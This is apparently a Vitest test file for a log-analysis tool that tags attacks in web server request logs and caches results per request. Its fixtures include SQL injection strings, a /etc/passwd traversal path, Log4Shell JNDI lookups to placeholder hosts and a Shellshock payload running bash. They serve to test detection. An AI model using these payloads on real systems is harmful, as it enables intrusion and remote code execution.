import { describe, expect, it } from 'vitest';
import { attackTags } from '../../src/features/attack-tags.js';
import { requestProfile } from '../../src/features/request-profile.js';
import { requestText } from '../../src/normalize/request-text.js';
import { TextTable } from '../../src/normalize/text-table.js';
import { TagMasks } from '../../src/pipeline/occurrences.js';
import { RequestMemo } from '../../src/pipeline/request-memo.js';
import type { LogRecord } from '../../src/types.js';
import { record } from '../features/record.js';
import { BENIGN_LOG, HAVE_DATA, SCANNER_LOGS } from '../features/attack-mix.js';
import { readCombinedLog } from '../features/combined-log.js';
import { needs } from '../helpers/needs.js';

function setup() {
  const table = new TextTable();
  const tags = new TagMasks();
  return { table, tags, memo: new RequestMemo(table, tags) };
}

describe('RequestMemo', () => {
  it('gives every record the text, tags and profile computed from it alone, for repeated and new requests', () => {
    const { table, tags, memo } = setup();
    const records: LogRecord[] = [
      record(),
      record({ query: "id=1'%20OR%20'1'='1" }),
      record({ query: "id=1'%20OR%20'1'='1", clientIp: '198.51.100.7', line: 2, status: 500 }),
      record({ userAgent: 'sqlmap/1.7' }),
      record({ path: '/../../etc/passwd' }),
      record({ method: 'POST', path: '/../../etc/passwd' }),
      record({ path: `/static/${'a'.repeat(400)}.css` }),
    ];
    for (const r of records) {
      const facts = memo.facts(r);
      expect(table.text(facts.textId)).toBe(requestText(r));
      expect(tags.tags(facts.tagMask)).toEqual(attackTags(r));
      expect(facts.profile).toEqual(requestProfile(r, attackTags(r)));
    }
    // Interning counts nothing: the caller counts occurrences.
    expect([...table.counts]).toEqual(new Array(table.size).fill(0));
  });

  it('keeps one answer per request, shared by every client that sends it', () => {
    const { memo } = setup();
    const first = memo.facts(record({ clientIp: '192.0.2.1', path: '/a', query: 'q=1' }));
    const again = memo.facts(record({ clientIp: '192.0.2.99', path: '/a', query: 'q=1', status: 404 }));
    expect(again).toBe(first);
    expect(memo.facts(record({ path: '/a', query: 'q=1', method: 'HEAD' }))).not.toBe(first);
    expect(memo.facts(record({ path: '/a', query: 'q=1', userAgent: 'curl/8' }))).not.toBe(first);
  });

  it('never serves a remembered answer to a record whose referer or cookie carries a lookup', () => {
    const { tags, memo } = setup();
    expect(tags.tags(memo.facts(record()).tagMask)).toEqual([]);
    expect(tags.tags(memo.facts(record({ referer: '${jndi:ldap://evil/a}' })).tagMask)).toContain('log4shell');
    expect(tags.tags(memo.facts(record({ cookie: 'x=${${lower:j}ndi:dns://e/a}' })).tagMask)).toContain('log4shell');
    expect(tags.tags(memo.facts(record()).tagMask)).toEqual([]);
  });

  it('a Shellshock Referer or Cookie is neither lost to nor lent to the clean records of the same request', () => {
    const { tags, memo } = setup();
    const shellshock = '() { :; }; echo; /bin/bash -c id';
    // Clean first: the attack that follows must still be tagged.
    expect(tags.tags(memo.facts(record()).tagMask)).toEqual([]);
    expect(tags.tags(memo.facts(record({ referer: shellshock })).tagMask)).toEqual(['shellshock']);
    expect(tags.tags(memo.facts(record({ cookie: `x=${shellshock}` })).tagMask)).toEqual(['shellshock']);
    // Attack first: the clean record that follows must not inherit it.
    const other = record({ path: '/other' });
    expect(tags.tags(memo.facts({ ...other, referer: shellshock }).tagMask)).toEqual(['shellshock']);
    expect(tags.tags(memo.facts(other).tagMask)).toEqual([]);
  });

  it('tells the request line’s own tags from those its headers add, once per distinct request', () => {
    const { tags, memo } = setup();
    const sqli = "id=1'%20union%20select%20password%20from%20users--";
    // The Referer repeats the request's own injection: both masks hold it.
    const echoed = record({ path: '/search', query: sqli, referer: `http://example.com/search?${sqli}` });
    const facts = memo.facts(echoed);
    expect(tags.tags(memo.requestTags(echoed, facts))).toEqual(['sql_injection']);
    // An ordinary page whose User-Agent and Referer carry the attacks: none is the request's.
    const headers = record({ path: '/a.css', userAgent: '${jndi:ldap://192.0.2.1/a}', referer: '${jndi:ldap://192.0.2.1/b}' });
    expect(tags.tags(memo.facts(headers).tagMask)).toContain('log4shell');
    expect(memo.requestTags(headers, memo.facts(headers))).toBe(0);
    // Worked out once: the answer is kept with the request's facts.
    expect(facts.requestMask).toBe(memo.requestTags(echoed, facts));
    expect(memo.requestTags(record({ path: '/search', query: sqli, clientIp: '198.51.100.9' }), memo.facts(record({ path: '/search', query: sqli })))).toBe(facts.requestMask);
  });

  it.runIf(needs(HAVE_DATA, 'the ocatak scanner logs and elastic-apache-logs in ../shared/data'))(
    'real scanner sessions and a real site: every record gets the text, tags and profile it would get alone',
    () => {
      const { table, tags, memo } = setup();
      // The scanners send one request with many user agents and one user agent with many requests:
      // the memo joins a request's part and a user agent's part, each worked out once.
      const records = [...SCANNER_LOGS, BENIGN_LOG].flatMap((path) => readCombinedLog(path));
      expect(records.length).toBeGreaterThan(10_000);
      let tagged = 0;
      for (const r of records) {
        const facts = memo.facts(r);
        const alone = attackTags(r);
        if (alone.length > 0) tagged++;
        // The mask lists tags in the order they were first seen; the profile in pattern order.
        expect(new Set(tags.tags(facts.tagMask))).toEqual(new Set(alone));
        expect(facts.profile).toEqual(requestProfile(r, alone));
        expect(table.text(facts.textId)).toBe(requestText(r));
      }
      expect(tagged).toBeGreaterThan(1_000);
    },
  );

  it('never gives one request the answer of another whose method, path and query join to the same words', () => {
    const { table, memo } = setup();
    // A GET without a query is looked up by its path alone, others by the three joined with NULs: a
    // path that spells such a join is still its own request.
    const post = record({ method: 'POST', path: '/login', query: 'u=a' });
    const spelled = record({ method: 'GET', path: 'POST\u0000/login\u0000u=a', query: '' });
    const withQuery = record({ method: 'GET', path: '/login', query: 'u=a' });
    const plain = record({ method: 'GET', path: '/login', query: '' });
    for (const r of [post, spelled, withQuery, plain, post, spelled, withQuery, plain]) expect(table.text(memo.facts(r).textId)).toBe(requestText(r));
    expect(new Set([post, spelled, withQuery, plain].map((r) => memo.facts(r))).size).toBe(4);
  });

  it('starts over past its bound and still answers every request right', () => {
    const { table, memo } = setup();
    const first = record({ path: '/page/0' });
    const remembered = memo.facts(first);
    for (let i = 1; i <= 100_000; i++) memo.facts(record({ path: `/page/${i}` }));
    const again = memo.facts(first);
    expect(again).not.toBe(remembered); // forgotten when the memo started over…
    expect(again.textId).toBe(remembered.textId); // …and worked out again to the same answer
    expect(table.text(memo.facts(record({ path: '/page/100000' })).textId)).toBe(requestText(record({ path: '/page/100000' })));
  });
});
